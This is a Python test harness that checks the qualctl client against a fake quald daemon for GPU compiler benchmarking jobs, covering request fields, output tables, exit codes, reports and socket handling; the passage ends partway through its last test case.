#!/usr/bin/python3
"""qualctl against a fake quald.

usage: qualctl_fake.py QUALCTL QUAL_JUDGE DATA_DIR CASE
       qualctl_fake.py --list

The fake daemon listens on a temporary Unix socket (and loopback TCP for the
--tcp case), records every request line qualctl sends, and answers with
canned lines: a real compile-only run of qual-run (DATA_DIR/compile_only.jsonl)
and synthetic timed runs written here, with quald's "job" and "seq" added as
docs/protocol.md says. Each CASE runs qualctl and checks its request, its
stdout and stderr, and its exit status (common/exitcode.h). The real daemon
is tested end to end elsewhere; this pins the client to the protocol."""
import csv
import io
import json
import os
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time

(EXIT_PASS, EXIT_REGRESSION, EXIT_FAIL, EXIT_ERROR, EXIT_USAGE, EXIT_NO_DAEMON,
 EXIT_NOT_TIMED) = range(7)
JOB = "j000042"


# ---- job lines ----

def with_job(text, job, seq):
    """A job line from an engine line, as quald relays it: the engine's
    bytes unchanged after the added fields."""
    assert text.startswith("{")
    return '{"job":"%s","seq":%d,%s' % (job, seq, text[1:])


def compile_only_lines(data_dir, job=JOB):
    with open(os.path.join(data_dir, "compile_only.jsonl")) as f:
        return [with_job(l.rstrip("\n"), job, i) for i, l in enumerate(f) if l.strip()]


def identity(path):
    return {"abi": "nvrtc", "version": "13.0", "path": path, "real_path": path,
            "sha256": "0" * 64, "options": []}


# A synthetic timed run: case name -> (case verdict line fields, pair
# ratio). The numbers are made up; qualctl shows what quald sends.
TIMED_CASES = [
    ("gemm_f16-256x512x256", {"verdict": "equivalent", "n": 30, "p_holm": 1.0,
                              "ratio_median": 1.0012, "ratio_lo": 0.999, "ratio_hi": 1.0031},
     1.001),
    ("gemm_i8-256x512x256", {"verdict": "slower", "n": 30, "p_holm": 1.86e-08,
                             "ratio_median": 1.05, "ratio_lo": 1.045, "ratio_hi": 1.055},
     1.05),
    ("conv3x3_f16-7x7x512x512", {"verdict": "faster", "n": 30, "p_holm": 3.7e-09,
                                 "ratio_median": 0.95, "ratio_lo": 0.948, "ratio_hi": 0.953},
     0.95),
]


def timed_lines(verdict, job=JOB, cases=TIMED_CASES, pairs=30, fail_case=None,
                message=None, cut_after=None):
    """Lines of a timed run ending in the given run verdict. fail_case gets
    a candidate check error and a fail case verdict. cut_after: only that
    many lines (a run that did not end)."""
    out = [{"type": "start", "schema_version": 1, "tool": "qual-run", "version": "0.1.0",
            "time": "2026-11-29T00:00:00Z",
            "device": {"vendor": "nvidia", "name": "NVIDIA H200", "arch": "sm_90",
                       "driver": "580.65", "ordinal": 0},
            "timed": True, "arch": "sm_90", "baseline": identity("/b/libnvrtc.so.13"),
            "candidate": identity("/c/libnvrtc.so.13"),
            "settings": {"pairs": pairs, "warmup": 5, "replays": 32, "alpha": 0.05,
                         "margin": 0.01, "conf": 0.95, "seed": 0,
                         "cases": [c[0] for c in cases]}}]
    for name, _, ratio in cases:
        out.append({"type": "case", "case": name, "family": name.split("-")[0],
                    "kernel": "k", "baseline": {"compiled": True},
                    "candidate": {"compiled": True}, "identical_code": False,
                    "static": {"identical_code": False, "code_bytes_delta": 128,
                               "registers_delta": -2, "spill_stores_delta": 0,
                               "spill_loads_delta": 0, "stack_bytes_delta": 0},
                    "tolerance": 0.001, "timed": True, "replays": 32})
        if name == fail_case:
            out.append({"type": "error", "stage": "check", "arm": "candidate", "case": name,
                        "message": "wrong output: element 3 is 2.5, expected 2.0"})
            continue
        for i in range(pairs):
            b = 10000.0 + i
            out.append({"type": "pair", "case": name, "pair": i,
                        "order": "baseline_first" if i % 2 == 0 else "candidate_first",
                        "baseline_ns": b, "candidate_ns": b * ratio})
    for name, cv, _ in cases:
        line = {"type": "case_verdict", "case": name, "identical_code": False}
        if name == fail_case:
            line.update({"verdict": "fail", "failed_arm": "candidate", "n": 0})
        else:
            line.update(cv)
        out.append(line)
    v = {"type": "verdict", "verdict": verdict, "timed": True, "alpha": 0.05, "margin": 0.01,
         "cases": [{"case": c[0], "verdict": "fail" if c[0] == fail_case else c[1]["verdict"]}
                   for c in cases]}
    if message:
        v["message"] = message
    out.append(v)
    if cut_after is not None:
        out = out[:cut_after]
    return [with_job(json.dumps(l), job, i) for i, l in enumerate(out)]


# ---- the fake daemon ----

class Fake:
    """Accepts connections; for each, reads one request line, records it,
    and plays what handler(request) returns: lines (str), floats (seconds
    to sleep), "HOLD" (keep the connection open until stopped), "CLOSE"."""

    def __init__(self, tmp, handler, tcp=False):
        self.path = os.path.join(tmp, "quald.sock")
        self.handler = handler
        self.requests = []
        self.raw_requests = []
        self.stop = threading.Event()
        self.socks = []
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.bind(self.path)
        s.listen(8)
        self.socks.append(s)
        if tcp:
            t = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            t.bind(("127.0.0.1", 0))
            t.listen(8)
            self.port = t.getsockname()[1]
            self.socks.append(t)
        self.acceptors = [threading.Thread(target=self.accept, args=(s,), daemon=True)
                          for s in self.socks]
        for t in self.acceptors:
            t.start()

    def accept(self, s):
        while not self.stop.is_set():
            try:
                c, _ = s.accept()
            except OSError:
                return
            if self.stop.is_set():
                c.close()
                return
            threading.Thread(target=self.serve, args=(c,), daemon=True).start()

    def serve(self, c):
        f = c.makefile("rb")
        raw = f.readline()
        if not raw:
            c.close()
            return
        self.raw_requests.append(raw)
        req = json.loads(raw)
        self.requests.append(req)
        try:
            for act in self.handler(req):
                if isinstance(act, float):
                    time.sleep(act)
                elif act == "HOLD":
                    self.stop.wait(30)
                    break
                elif act == "CLOSE":
                    break
                else:
                    c.sendall(act.encode() + b"\n")
        except (BrokenPipeError, ConnectionResetError):
            pass
        c.close()

    def close(self):
        # shutdown wakes an accept blocked on the socket; the acceptors are
        # joined before the sockets are closed, so no acceptor can reach
        # the next fake's socket through a reused descriptor number.
        self.stop.set()
        for s in self.socks:
            try:
                s.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass
        for t in self.acceptors:
            t.join(10)
        for s in self.socks:
            s.close()


def reply(op, **fields):
    d = {"type": "reply", "op": op, "id": 1}
    d.update(fields)
    return json.dumps(d)


def submit_reply(position=0, job=JOB):
    return reply("submit", job=job, position=position, state="queued")


# ---- running qualctl ----

class Ctx:
    def __init__(self, qualctl, judge, data):
        self.qualctl, self.judge, self.data = qualctl, judge, data
        self.tmp = tempfile.mkdtemp(prefix="qualctl-")
        self.fake = None

    def serve(self, handler, tcp=False):
        self.fake = Fake(self.tmp, handler, tcp)
        return self.fake

    def fresh(self):
        """A new directory for the next fake daemon."""
        if self.fake:
            self.fake.close()
        self.fake = None
        self.tmp = tempfile.mkdtemp(prefix="qualctl-")

    def run(self, *args, env=None, cwd=None, socket_opt=True, timeout=60):
        argv = [self.qualctl]
        if socket_opt and self.fake:
            argv += ["--socket", self.fake.path]
        argv += list(args)
        e = dict(os.environ)
        e.pop("QUAL_SOCKET", None)
        e.pop("RUNTIME_DIRECTORY", None)
        e.update(env or {})
        p = subprocess.run(argv, capture_output=True, env=e, cwd=cwd or self.tmp,
                           timeout=timeout)
        return p.returncode, p.stdout.decode(), p.stderr.decode()

    def interrupt(self, *args):
        """Runs qualctl on the fake daemon, sends it SIGINT half a second
        later, and closes the fake: (status, stdout, stderr) as bytes."""
        p = subprocess.Popen([self.qualctl, "--socket", self.fake.path] + list(args),
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        time.sleep(0.5)
        p.send_signal(signal.SIGINT)
        out, err = p.communicate(timeout=10)
        self.fake.close()
        return p.returncode, out, err


def check(cond, what, *show):
    if not cond:
        for s in show:
            sys.stderr.write("----\n%s\n" % s)
        raise AssertionError(what)


def expect_status(got, want, out, err):
    check(got[0] == want, "exit status %d, expected %d" % (got[0], want), out, err)


# ---- cases ----

CASES = {}


def case(fn):
    CASES[fn.__name__] = fn
    return fn


@case
def submit_request(ctx):
    """Every option lands in the request under its protocol name; relative
    library paths are made absolute against qualctl's directory."""
    lines = compile_only_lines(ctx.data)
    fake = ctx.serve(lambda req: [submit_reply()] + lines)
    os.makedirs(os.path.join(ctx.tmp, "libs"))
    r = ctx.run("submit", "libs/base.so", "./libs/cand.so", "--pairs", "40",
                "--case", "gemm_f16-256x512x256", "--case", "conv3x3_f16-7x7x512x512",
                "--alpha", "0.01", "--margin", "0.02", "--baseline-opt", "-O2",
                "--candidate-opt", "-O3", "--candidate-opt", "--use_fast_math",
                "--compile-only", "--seed", "7", "--mode", "wgp", "--fixtures", "fx/rmsnorm",
                "--fixtures", "/srv/fx", "--fixtures=./fx/b", "--max-pairs", "160",
                "--max-seconds", "12.5", "--gate-slower", "significant",
                "--gate-faster", "beyond", "--undecided", "regression")
    expect_status(r, EXIT_PASS, *r[1:])
    req = fake.requests[0]
    real_tmp = os.path.realpath(ctx.tmp)
    want = {"op": "submit", "baseline": real_tmp + "/libs/base.so",
            "candidate": real_tmp + "/libs/cand.so", "pairs": 40,
            "cases": ["gemm_f16-256x512x256", "conv3x3_f16-7x7x512x512"],
            "alpha": 0.01, "margin": 0.02, "baseline_options": ["-O2"],
            "candidate_options": ["-O3", "--use_fast_math"], "compile_only": True,
            "seed": 7, "mode": "wgp", "follow": True, "max_pairs": 160,
            "max_seconds": 12.5, "gate_slower": "significant", "gate_faster": "beyond",
            "undecided": "regression",
            "fixtures": [real_tmp + "/fx/rmsnorm", "/srv/fx", real_tmp + "/fx/b"]}
    for k, v in want.items():
        check(req.get(k) == v, "request %s = %r, expected %r" % (k, req.get(k), v), req)
    check(set(req) - set(want) <= {"id"}, "unexpected request fields", req)
    check(fake.raw_requests[0].endswith(b"}\n") and fake.raw_requests[0].count(b"\n") == 1,
          "a request is one line", fake.raw_requests[0])
    # The directory as the shell names it ($PWD), symbolic links kept, when
    # it is the working directory; a stale $PWD is not believed.
    os.symlink(os.path.join(ctx.tmp, "libs"), os.path.join(ctx.tmp, "link"))
    link = os.path.join(ctx.tmp, "link")
    for pwd, base in ((link, link), (ctx.tmp, real_tmp + "/libs")):
        fake.requests.clear()
        ctx.run("submit", "base.so", "cand.so", cwd=link, env={"PWD": pwd})
        req = fake.requests[0]
        check(req["baseline"] == base + "/base.so", "PWD %s: baseline %s" % (pwd, base), req)
        fake.requests.clear()
        ctx.run("submit", "/b.so", "/c.so", "--fixtures", "fx", cwd=link, env={"PWD": pwd})
        req = fake.requests[0]
        check(req["fixtures"] == [base + "/fx"], "PWD %s: fixtures %s" % (pwd, base), req)
    # Defaults are quald's: nothing qualctl was not told is sent.
    fake.requests.clear()
    r = ctx.run("submit", "/abs/base.so", "/abs/cand.so")
    req = fake.requests[0]
    check(set(req) == {"op", "id", "baseline", "candidate", "follow"}, "minimal request", req)
    check(req["baseline"] == "/abs/base.so", "absolute paths are kept", req)


@case
def submit_compile_only_plain(ctx):
    """A real compile-only run: plain lines, the summary table, exit 0."""
    lines = compile_only_lines(ctx.data)
    ctx.serve(lambda req: [submit_reply(position=2)] + lines)
    code, out, err = ctx.run("submit", "/b.so", "/c.so", "--compile-only")
    expect_status((code,), EXIT_PASS, out, err)
    check("job j000042: queued, position 2\n" in out, "queue line", out)
    check("case gemm_f16-256x512x256: compiled (identical code)\n" in out, "case line", out)
    check("start: 9 cases, not timed (compile-only run requested) for sm_90" in out,
          "start line", out)
    names = [json.loads(l)["case"] for l in lines if '"type":"case"' in l]
    check(len(names) == 9, "nine cases in the canned run", names)
    rows = [l for l in out.splitlines() if l.split(" ")[0] in names and "not_timed" in l]
    check(len(rows) == 9, "a table row per case", out)
    for row in rows:
        check(row.split()[1:3] == ["not_timed", "identical"], "row: verdict, code", row)
    check(out.rstrip("\n").splitlines()[-2] == "verdict: not_timed (9 not_timed)",
          "run verdict line", out)
    check("\r" not in out and "\033" not in out, "no terminal control without a terminal", out)


@case
def submit_json_passthrough(ctx):
    """--json writes every job line exactly as received, and nothing else."""
    lines = compile_only_lines(ctx.data)
    # json.dumps' spacing, key order and escapes: a client that parsed and
    # re-encoded the lines would change them.
    odd = timed_lines("neutral", message="caf\u00e9 \u00e9t\u00e9")
    odd = [l.replace('"seq":', '"seq" :') for l in odd]
    for case_lines in (lines, odd):
        ctx.fresh()
        ctx.serve(lambda req, cl=case_lines: [submit_reply()] + cl)
        code, out, err = ctx.run("submit", "/b.so", "/c.so", "--json", "--compile-only")
        expect_status((code,), EXIT_PASS, out, err)
        check(out == "".join(l + "\n" for l in case_lines), "byte-for-byte pass-through",
              out[:2000])


@case
def submit_verdict_exit(ctx):
    """The exit status follows the run verdict, with and without --json; a
    not_timed job that did not ask for --compile-only is no pass (6)."""
    want = {"improvement": EXIT_PASS, "neutral": EXIT_PASS, "not_timed": EXIT_NOT_TIMED,
            "regression": EXIT_REGRESSION, "fail": EXIT_FAIL, "error": EXIT_ERROR,
            "cancelled": EXIT_ERROR, "interrupted": EXIT_ERROR, "no_such_verdict": EXIT_ERROR}
    for verdict, status in want.items():
        ctx.fresh()
        ctx.serve(lambda req, v=verdict: [submit_reply()] + timed_lines(v))
        for extra in ([], ["--json"]):
            code, out, err = ctx.run("submit", "/b.so", "/c.so", *extra)
            check(code == status, "verdict %s %s: exit %d, expected %d"
                  % (verdict, extra, code, status), out, err)
            if not extra:
                check("verdict: %s (" % verdict in out, "verdict line", out)
            if status == EXIT_NOT_TIMED:
                check("job %s was not timed" % JOB in err, "says why it is not a pass", err)
    # Asked for: a compile-only pass is a pass.
    ctx.fresh()
    ctx.serve(lambda req: [submit_reply()] + compile_only_lines(ctx.data))
    code, out, err = ctx.run("submit", "/b.so", "/c.so", "--compile-only")
    check(code == EXIT_PASS and "not timed" not in err, "--compile-only: exit %d" % code,
          out, err)
    ctx.fresh()
    ctx.serve(lambda req: [submit_reply()] + compile_only_lines(ctx.data))
    code, out, err = ctx.run("submit", "/b.so", "/c.so")
    check(code == EXIT_NOT_TIMED and "(compile-only run requested)" in err,
          "compile-only lines without --compile-only: exit %d" % code, out, err)


@case
def submit_quald_verdict(ctx):
    """A verdict line quald writes itself (cancelled, no cases) still
    ends the job with its message and status 3."""
    lines = timed_lines("neutral", cut_after=40)
    lines.append(with_job(json.dumps({"type": "verdict", "verdict": "cancelled", "timed": True,
                                      "message": "cancelled by request"}), JOB, 40))
    ctx.serve(lambda req: [submit_reply()] + lines)
    code, out, err = ctx.run("submit", "/b.so", "/c.so")
    expect_status((code,), EXIT_ERROR, out, err)
    check("verdict: cancelled\n  cancelled by request\n" in out, "cancelled verdict", out)


@case
def submit_timed_plain(ctx):
    """Timed run, not a terminal: pair summaries, errors, the table."""
    lines = timed_lines("fail", fail_case="gemm_i8-256x512x256")
    ctx.serve(lambda req: [submit_reply()] + lines)
    code, out, err = ctx.run("submit", "/b.so", "/c.so")
    expect_status((code,), EXIT_FAIL, out, err)
    for want in [
        "start: 3 cases, 30 pairs each on 'NVIDIA H200' for sm_90; baseline nvrtc 13.0 "
        "'/b/libnvrtc.so.13', candidate nvrtc 13.0 '/c/libnvrtc.so.13'\n",
        "case gemm_f16-256x512x256: compiled (code differs: code +128 bytes, registers -2)\n",
        "case gemm_f16-256x512x256: 30 pairs, candidate faster in 0, slower in 30\n",
        "case conv3x3_f16-7x7x512x512: 30 pairs, candidate faster in 30, slower in 0\n",
        "error: case gemm_i8-256x512x256: candidate check: wrong output: element 3 is 2.5, "
        "expected 2.0\n",
        "verdict: fail (1 equivalent, 1 fail, 1 faster)\n",
    ]:
        check(want in out, "missing: " + want, out)
    table = out[out.index("case  "):].splitlines()
    check(table[0].split() == ["case", "verdict", "code", "baseline", "us", "candidate", "us",
                               "change", "[lo,", "hi]", "p_holm", "detectable"],
          "table header", out)
    # Times per arm: the median of the pair lines' ns per kernel, in us;
    # the change in percent with its interval; the static differences.
    check(table[1].split() == ["gemm_f16-256x512x256", "equivalent", "size",
                               "+128", "B,", "regs", "-2", "10.014", "10.025", "+0.12%", "[-0.10%,", "+0.31%]",
                               "1", "-"], "equivalent row", table[1])
    check(table[2].split() == ["gemm_i8-256x512x256", "fail", "(candidate)", "size", "+128",
                               "B,", "regs", "-2", "-", "-", "-", "-", "-"],
          "fail row", table[2])
    check(table[3].split() == ["conv3x3_f16-7x7x512x512", "faster", "size",
                               "+128", "B,", "regs", "-2", "10.014", "9.514", "-5.00%", "[-5.20%,", "-4.70%]",
                               "3.7e-09", "-"], "faster row", table[3])
    check(table[4] == "geomean over 2 timed cases: -2.47% (candidate against baseline)",
          "geomean", "\n".join(table))
    # The columns line up: each header starts where its cells start.
    col = table[0].index("verdict")
    check(all(row[col - 2:col] == "  " and row[col] != " " for row in table[1:4]),
          "aligned columns", "\n".join(table))
    check(len(out.splitlines()) == 14, "no line per pair", out)


@case
def submit_progress_tty(ctx):
    """On a terminal (script(1) gives one): a progress line redrawn in place
    with the case, pair k of N and the tally, cleared before the table."""
    lines = timed_lines("regression")
    # Slow enough that qualctl draws between pairs.
    ctx.serve(lambda req: [submit_reply(position=1), 0.2] +
              [x for l in lines for x in (l, 0.002)])
    log = os.path.join(ctx.tmp, "typescript")
    # A wide terminal, so that the progress line is not cut short.
    cmd = "stty cols 200; %s --socket %s submit /b.so /c.so" % (ctx.qualctl, ctx.fake.path)
    p = subprocess.run(["script", "-qfec", cmd, log], capture_output=True, timeout=60,
                       env=dict(os.environ, TERM="xterm", COLUMNS="200"))
    out = p.stdout.decode(errors="replace")
    expect_status((p.returncode,), EXIT_REGRESSION, out, p.stderr.decode())
    check("\rjob j000042: queued, position 1\033[K" in out, "queued progress", out[:500])
    check("case 2/3 gemm_i8-256x512x256: pair 12/30, candidate faster 0, slower 12\033[K" in out,
          "pair progress", out[:3000])
    check("\r\033[Kcase gemm_i8-256x512x256: 30 pairs," in out,
          "a plain line clears the progress line first", out[:3000])
    tail = out[out.index("verdict: regression"):]
    check("\r" not in out[out.index("case  "):].replace("\r\n", "\n"),
          "no progress after the table", tail)


@case
def submit_refused(ctx):
    """A refusal: its message on stderr, exit 4, nothing on stdout."""
    msg = "'pairs' must be an integer >= 30, got 5"
    ctx.serve(lambda req: [json.dumps({"type": "refused", "op": "submit", "id": 1,
                                       "message": msg})])
    for extra in ([], ["--json"]):
        code, out, err = ctx.run("submit", "/b.so", "/c.so", "--pairs", "5", *extra)
        expect_status((code,), EXIT_USAGE, out, err)
        check(err == "qualctl: quald refused the request: %s\n" % msg, "refusal message", err)
        check(out == "", "nothing on stdout", out)


def check_reports(d, lines, want_failed):
    """The --json-out, --junit and --markdown files of a job in d: the
    lines as they came, JUnit that parses with want_failed failing, a
    markdown row per case."""
    import xml.etree.ElementTree as ET
    with open(os.path.join(d, "lines.jsonl")) as f:
        check(f.read() == "".join(l + "\n" for l in lines), "--json-out: the job's lines")
    suite = ET.parse(os.path.join(d, "junit.xml")).getroot().find("testsuite")
    names = [t.get("name") for t in suite.findall("testcase")]
    check(names == [c[0] for c in TIMED_CASES], "a testcase per case", names)
    failed = [t.get("name") for t in suite.findall("testcase") if t.find("failure") is not None]
    check(failed == want_failed, "JUnit failures", failed)
    with open(os.path.join(d, "summary.md")) as f:
        md = f.read()
    check(sum(1 for l in md.splitlines() if l.startswith("| ")) == 2 + len(TIMED_CASES) and
          "| gemm_i8-256x512x256 | slower |" in md, "markdown table", md)


def report_args(d):
    return ["--json-out", os.path.join(d, "lines.jsonl"), "--junit",
            os.path.join(d, "junit.xml"), "--markdown", os.path.join(d, "summary.md")]


@case
def submit_reports(ctx):
    """submit with --json-out, --junit and --markdown: the files beside the
    table; with --no-follow they are refused (wait takes them); a report
    for another command is refused; one that cannot be made fails first,
    before any submit."""
    lines = timed_lines("regression")
    fake = ctx.serve(lambda req: [submit_reply()] + lines)
    with tempfile.TemporaryDirectory() as d:
        code, out, err = ctx.run("submit", "/b.so", "/c.so", *report_args(d))
        expect_status((code,), EXIT_REGRESSION, out, err)
        check(out.startswith("job %s: queued, position 0\n" % JOB), "job id on screen", out)
        check("geomean over 3 timed cases:" in out, "the table's geomean", out)
        check_reports(d, lines, ["gemm_i8-256x512x256"])
        fake.requests.clear()
        code, out, err = ctx.run("submit", "/b.so", "/c.so", "--no-follow", "--junit",
                                 os.path.join(d, "x.xml"))
        check(code == EXIT_USAGE and "with --no-follow, give them to 'qualctl wait JOB'" in err
              and not fake.requests, "--no-follow refuses reports", err)
        code, out, err = ctx.run("status", "--junit", os.path.join(d, "x.xml"))
        check(code == EXIT_USAGE and "--junit is for submit, show and wait" in err,
              "reports only where a job ends", err)
        code, out, err = ctx.run("submit", "/b.so", "/c.so", "--json-out",
                                 os.path.join(d, "no", "dir", "l.jsonl"))
        check(code == EXIT_USAGE and "cannot write the lines to" in err and not fake.requests,
              "an unwritable --json-out fails before the submit", err)


@case
def show_reports(ctx):
    """show with reports once the job has a verdict; of a job without one,
    exit 3 and no report."""
    lines = timed_lines("regression")
    running = timed_lines("regression", cut_after=5)

    def handler(req):
        if req["job"] == JOB:
            return [reply("show", job=JOB, state="done", lines=len(lines))] + lines
        return [reply("show", job=req["job"], state="running", lines=len(running))] + running
    ctx.serve(handler)
    with tempfile.TemporaryDirectory() as d:
        code, out, err = ctx.run("show", JOB, *report_args(d))
        expect_status((code,), EXIT_REGRESSION, out, err)
        check_reports(d, lines, ["gemm_i8-256x512x256"])
        code, out, err = ctx.run("show", JOB, "--json", "--junit", os.path.join(d, "j2.xml"))
        check(code == EXIT_REGRESSION and os.path.getsize(os.path.join(d, "j2.xml")) > 0,
              "show --json: the verdict's status and the report", out, err)
        code, out, err = ctx.run("show", "j000050")
        check(code == EXIT_PASS, "show of a running job: 0", out, err)
        code, out, err = ctx.run("show", "j000050", "--junit", os.path.join(d, "r.xml"))
        check(code == EXIT_ERROR and "has no verdict yet (running)" in err and
              not os.path.exists(os.path.join(d, "r.xml")), "no report of a running job", err)


@case
def wait_job(ctx):
    """wait JOB: a watch from the job's first line; other jobs' lines passed
    over; the table and the reports; the verdict's exit status; a job that
    timed nothing though not asked to compile only is 6; a refused job id
    is a usage error."""
    a = timed_lines("regression")
    other = compile_only_lines(ctx.data, job="j000099")
    mixed = [x for pair in zip(a, other) for x in pair] + a[len(other):]
    # The same compile-only lines as a slot without a GPU ran them (not
    # asked for): its start line's reason, and settings.compile_only false.
    start = json.loads(other[0])
    start["not_timed_because"] = "slot 0 has no GPU"
    start["settings"]["compile_only"] = False
    slot = [json.dumps(start)] + other[1:]

    def handler(req):
        if req.get("after_job") == "j404":
            return [json.dumps({"type": "refused", "op": "watch", "id": 1,
                                "message": "no job 'j404'"})]
        if req.get("after_job") == "j000099":
            return [reply("watch")] + other
        if req.get("after_job") == "j000098":
            return [reply("watch")] + [t.replace('"j000099"', '"j000098"') for t in slot]
        return [reply("watch")] + mixed + ["HOLD"]
    fake = ctx.serve(handler)
    with tempfile.TemporaryDirectory() as d:
        code, out, err = ctx.run("wait", JOB, *report_args(d))
        check(fake.requests[0] == {"op": "watch", "id": 1, "after_job": JOB, "after_seq": -1},
              "wait's request", fake.requests)
        expect_status((code,), EXIT_REGRESSION, out, err)
        check(out.startswith("job %s: waiting for its verdict\n" % JOB) and
              "[j000099]" not in out and "attention_f16-128" not in out,
              "only the job's lines", out)
        check("verdict: regression (" in out and "geomean over 3" in out, "wait's table", out)
        check_reports(d, a, ["gemm_i8-256x512x256"])
    # A compile-only run asked for (an engine's lines from before
    # settings.compile_only: its reason says so) passes; one a slot without
    # a GPU ran, not asked for, is not a pass.
    code, out, err = ctx.run("wait", "j000099")
    check(code == EXIT_PASS, "wait: a compile-only run asked for is 0", out, err)
    code, out, err = ctx.run("wait", "j000098")
    check(code == EXIT_NOT_TIMED and "was not timed" in err, "wait: not timed is 6", out, err)
    code, out, err = ctx.run("wait", "j404")
    check(code == EXIT_USAGE and "no job 'j404'" in err, "wait: unknown job", err)
    code, out, err = ctx.run("wait")
    check(code == EXIT_USAGE and "needs one job id" in err, "wait usage", err)


@case
def submit_no_follow(ctx):
    fake = ctx.serve(lambda req: [submit_reply(position=3)])
    code, out, err = ctx.run("submit", "/b.so", "/c.so", "--no-follow")
    expect_status((code,), EXIT_PASS, out, err)
    check(out == JOB + "\n", "the job id alone", out)
    check(fake.requests[0]["follow"] is False, "follow false", fake.requests)
    code, out, err = ctx.run("submit", "/b.so", "/c.so", "--no-follow", "--json")
    check(json.loads(out)["position"] == 3 and out.count("\n") == 1, "raw reply", out)


@case
def submit_connection_lost(ctx):
    """The daemon goes away before the verdict: the outcome is unknown,
    exit 3, and the message says how to look later."""
    ctx.serve(lambda req: [submit_reply()] + timed_lines("neutral", cut_after=50) + ["CLOSE"])
    code, out, err = ctx.run("submit", "/b.so", "/c.so")
    expect_status((code,), EXIT_ERROR, out, err)
    check("closed the connection before job j000042 ended" in err and
          "qualctl show j000042" in err, "lost-connection message", err)
    check("verdict:" not in out, "no verdict invented", out)


@case
def submit_interrupted(ctx):
    """^C while following: the job goes on, exit 3."""
    ctx.serve(lambda req: [submit_reply()] + timed_lines("neutral", cut_after=5) + ["HOLD"])
    code, out, err = ctx.interrupt("submit", "/b.so", "/c.so")
    expect_status((code,), EXIT_ERROR, out, err)
    check(b"stopped following job j000042; it goes on in quald" in err, "message", err)


@case
def no_daemon(ctx):
    """Nothing at the socket, or nothing listening on it: exit 5."""
    path = os.path.join(ctx.tmp, "nobody.sock")
    code, out, err = ctx.run("--socket", path, "status", socket_opt=False)
    expect_status((code,), EXIT_NO_DAEMON, out, err)
    check(err.startswith("qualctl: cannot reach quald at '%s': no such file or directory"
                         % path), "message", err)
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.bind(path)  # bound, never listening: connection refused
    code, out, err = ctx.run("submit", "/b.so", "/c.so", env={"QUAL_SOCKET": path},
                             socket_opt=False)
    expect_status((code,), EXIT_NO_DAEMON, out, err)
    check("cannot reach quald at '%s': connection refused" % path in err, "refused", err)
    code, out, err = ctx.run("list", env={"RUNTIME_DIRECTORY": ctx.tmp + "/rt"},
                             socket_opt=False)
    check(code == EXIT_NO_DAEMON and "'%s/rt/quald.sock'" % ctx.tmp in err,
          "RUNTIME_DIRECTORY", err)


@case
def socket_from_environment(ctx):
    """QUAL_SOCKET, then RUNTIME_DIRECTORY, choose the socket; --socket
    beats both."""
    fake = ctx.serve(lambda req: [reply("cancel", job="j1", state="cancelled")])
    code, out, err = ctx.run("cancel", "j1", env={"QUAL_SOCKET": fake.path}, socket_opt=False)
    check(code == 0 and out == "job j1: cancelled\n", "QUAL_SOCKET", out, err)
    code, out, err = ctx.run("cancel", "j1", env={"RUNTIME_DIRECTORY": ctx.tmp + ":/x"},
                             socket_opt=False)
    check(code == 0, "RUNTIME_DIRECTORY's first entry", out, err)
    code, out, err = ctx.run("cancel", "j1", env={"QUAL_SOCKET": "/nonexistent.sock"})
    check(code == 0, "--socket beats QUAL_SOCKET", out, err)
    check(fake.requests[0] == {"op": "cancel", "id": 1, "job": "j1"}, "cancel request",
          fake.requests)


@case
def tcp(ctx):
    fake = ctx.serve(lambda req: [reply("status", version="0.1.0", schema_version=1,
                                        slots=[], queued=[], running=[])], tcp=True)
    code, out, err = ctx.run("--tcp", "127.0.0.1:%d" % fake.port, "status", socket_opt=False)
    check(code == 0 and out.startswith("quald 0.1.0 (lines schema 1) at '127.0.0.1:"),
          "status over tcp", out, err)


@case
def reply_timeout(ctx):
    ctx.serve(lambda req: ["HOLD"])
    t = time.monotonic()
    code, out, err = ctx.run("--timeout", "0.5", "status")
    ctx.fake.close()
    expect_status((code,), EXIT_NO_DAEMON, out, err)
    check("did not answer within 0.5 s" in err, "timeout message", err)
    check(time.monotonic() - t < 10, "the timeout is kept", err)


@case
def status_list(ctx):
    def handler(req):
        if req["op"] == "status":
            return [reply("status", version="0.1.0", schema_version=1,
                          slots=[{"slot": 0, "device": 0, "job": "j000007"},
                                 {"slot": 1, "device": 1, "job": None}],
                          queued=["j000008", "j000009"], running=["j000007"])]
        return [reply("list", jobs=[
            {"job": "j000008", "state": "queued", "verdict": None,
             "submitted": "2026-11-29T10:00:00Z", "finished": None,
             "baseline": "/b.so", "candidate": "/c.so"},
            {"job": "j000007", "state": "done", "verdict": "regression",
             "submitted": 1795953600, "finished": 1795953660.5,
             "baseline": "/b.so", "candidate": "/c2.so",
             "labels": {"commit": "abc", "build": "n7"},
             "settings": {"pairs": 90, "compile_only": True, "cases": ["a-1", "b-2"],
                          "candidate_options": ["-G"], "fixtures": 2}}])]
    fake = ctx.serve(handler)
    code, out, err = ctx.run("status")
    check(code == 0, "status exit", out, err)
    lines = out.splitlines()
    check(lines[1].split() == ["slot", "device", "job"], "status header", out)
    check(lines[2].split() == ["0", "gpu", "0", "j000007"], "busy slot", out)
    check(lines[3].split() == ["1", "gpu", "1", "idle"], "idle slot", out)
    check("running: j000007\nqueued: j000008 j000009\n" in out, "queue", out)
    code, out, err = ctx.run("list", "--limit", "5")
    check(code == 0, "list exit", out, err)
    check(fake.requests[-1] == {"op": "list", "id": 1, "limit": 5}, "list request",
          fake.requests)
    lines = out.splitlines()
    check(lines[0].split() == ["job", "state", "verdict", "submitted", "finished",
                               "baseline", "candidate", "labels", "settings"],
          "list header", out)
    check(lines[1].split() == ["j000008", "queued", "-", "2026-11-29T10:00:00Z", "-",
                               "/b.so", "/c.so", "-", "-"], "queued row", out)
    check(lines[2].split("  ")[0:1] == ["j000007"] and
          lines[2].endswith("commit=abc build=n7  90 pairs, compile-only, cases a-1 b-2, "
                            "options, 2 fixture dirs"), "done row", out)
    check(lines[2].split()[:7] == ["j000007", "done", "regression", "2026-11-29T12:00:00Z",
                                   "2026-11-29T12:01:00Z", "/b.so", "/c2.so"], "done row", out)
    code, out, err = ctx.run("list", "--json")
    check(out == handler({"op": "list"})[0] + "\n", "list --json is the reply line", out)
    code, out, err = ctx.run("list", "--limit", "0")
